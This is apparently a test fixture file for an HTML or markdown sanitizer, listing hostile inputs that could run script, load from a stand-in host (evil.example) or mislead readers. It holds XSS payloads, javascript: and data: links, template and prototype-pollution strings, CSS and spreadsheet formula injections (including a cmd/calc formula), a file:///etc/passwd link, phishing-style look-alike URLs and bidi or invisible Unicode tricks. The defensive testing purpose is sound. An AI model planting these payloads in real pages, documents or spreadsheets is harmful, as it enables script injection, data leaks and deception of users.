// Texts by which agents or others could try to run something, to load something, or to mislead. Everything that could run
// sets `window.ran`; everything that could load requests evil.example.
const RUN = "window.ran=1";

export const HOSTILE = [
  // Tags and handlers.
  `<script>${RUN}</script>`, `<ScRiPt>${RUN}</sCrIpT>`, `<script src="http://evil.example/x.js"></script>`, `<script type=module>import("http://evil.example/m.js")</script>`,
  `<img src=x onerror="${RUN}">`, `<img src="http://evil.example/pixel.png">`, `<img srcset="http://evil.example/2x.png 2x">`, `<image src=x onerror=${RUN}>`,
  `"><img src=x onerror=${RUN}>`, `'><img src=x onerror=${RUN}>`, `\` onmouseover=${RUN} x=\``, `" autofocus onfocus="${RUN}" x="`,
  `<body onload=${RUN}>`, `<details open ontoggle=${RUN}>`, `<video><source onerror="${RUN}"></video>`, `<audio src=x onerror=${RUN}>`, `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`, `<marquee onstart=${RUN}>x</marquee>`, `<object data="javascript:${RUN}"></object>`, `<embed src="javascript:${RUN}">`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`, `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`, `<base href="http://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=http://evil.example/">`, `<link rel=stylesheet href="http://evil.example/x.css">`, `<form action="http://evil.example/"><button>Send</button></form>`,
  `<template><script>${RUN}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`, `<textarea></textarea><script>${RUN}</script></textarea>`,
  `</title><script>${RUN}</script>`, `</textarea><script>${RUN}</script>`, `</style><script>${RUN}</script>`, `--><script>${RUN}</script>`, `]]><script>${RUN}</script>`, `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `<dialog open><h1>ask-user</h1><button onclick=${RUN}>Sign in</button></dialog>`, `<div style="position:fixed;inset:0;background:red">owned</div>`, `<a href="#" class="primary button" id="main">Send</a>`,
  // SVG and MathML.
  `<svg onload=${RUN}>`, `<svg><script>${RUN}</script></svg>`, `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`, `<svg><animate onbegin=${RUN} attributeName=x>`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>`, `<math href="javascript:${RUN}">x</math>`,
  // Markdown: links and images with odd schemes, and with text that could break out of them.
  `[x](javascript:${RUN})`, `[x](JaVaScRiPt:${RUN})`, `[x](java\tscript:${RUN})`, `[x](&#106;avascript:${RUN})`, `[x](&#x6A;avascript&colon;${RUN})`, `[x]( javascript:${RUN})`, `[x](\\u0001javascript:${RUN})`,
  `[x](vbscript:msgbox)`, `[x](data:text/html,<script>${RUN}</script>)`, `[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=)`, `[x](blob:http://evil.example/1)`, `[x](file:///etc/passwd)`, `[x](view-source:http://evil.example)`,
  `[x](//evil.example/a)`, `[x](/v1/session)`, `[x](?from=x)`, `[x](http://evil.example" onclick="${RUN})`, `[x](<javascript:${RUN}>)`, `[x][ref]\n\n[ref]: javascript:${RUN}`,
  `![i](http://evil.example/p.png)`, `![i](javascript:${RUN})`, `![i](data:image/svg+xml,<svg onload=${RUN}>)`, `[![i](http://evil.example/p.png)](javascript:${RUN})`,
  `<javascript:${RUN}>`, `<http://evil.example/auto>`, `<data:text/html,${RUN}>`, `www.evil.example`, `[https://bank.example](http://evil.example)`, `[bank.example/login](https://bank.example@evil.example/)`, `https://xn--80ak6aa92e.example/`,
  "```html\n<script>window.ran=1</script>\n```", "`</code><script>window.ran=1</script>`", `| a | b |\n|---|---|\n| <img src=x onerror=${RUN}> | [x](javascript:${RUN}) |`, `# <script>${RUN}</script>`, `- [x] <img src=x onerror=${RUN}>`, `~~<b onclick=${RUN}>x</b>~~`,
  // Entities, templates, object properties, and text that could break out of JSON and CSS.
  `&lt;script&gt;${RUN}&lt;/script&gt;`, `&#60;img src=x onerror=${RUN}&#62;`, `{{constructor.constructor('${RUN}')()}}`, "${window.ran=1}", "#{7*7}", "<%= 7*7 %>", "{who} {count} {__proto__}",
  "__proto__", "constructor", "toString", `{"__proto__":{"ran":1}}`, `";${RUN}//`, `';${RUN}//`, `\\";${RUN}//`, `}</style><style>*{display:none}`, `red;}*{background:url(http://evil.example/c)}`, `expression(${RUN})`, `url(javascript:${RUN})`, `@import "http://evil.example/i.css";`,
  `=HYPERLINK("http://evil.example","x")`, `+cmd|' /C calc'!A0`, `-2+3`, `@SUM(1+1)*cmd`, `\t=1+1`,
  // Unicode that changes direction, is invisible, breaks lines or is very tall.
  "\u202egnp.exe", "\u2066a\u2067b\u2069", "\u200f\u061c:declined", "a\u200bb\u200d\ufeffc", "line\u2028line\u2029line", "\u0000\u0007\u001b[31mred\u001b[0m", "\u001b]8;;http://evil.example\u0007link\u001b]8;;\u0007", "\u009b2J",
  "שלום: Sent to claude-code", "مرحبا (declined)", "Z\u0335\u0336\u0337\u0338\u0321\u0322\u0327\u0328\u0489".repeat(5), "👩‍👩‍👧‍👦🏳️‍🌈".repeat(40), "\ufdfd".repeat(20), "\u{e0001}\u{e0041}tags", "W".repeat(400), "https://" + "a".repeat(300) + ".example",
];

/** Characters that change the direction of text, or are invisible. */
export const TURNING = /[\u061c\u200b\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff\u2028\u2029\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]/;
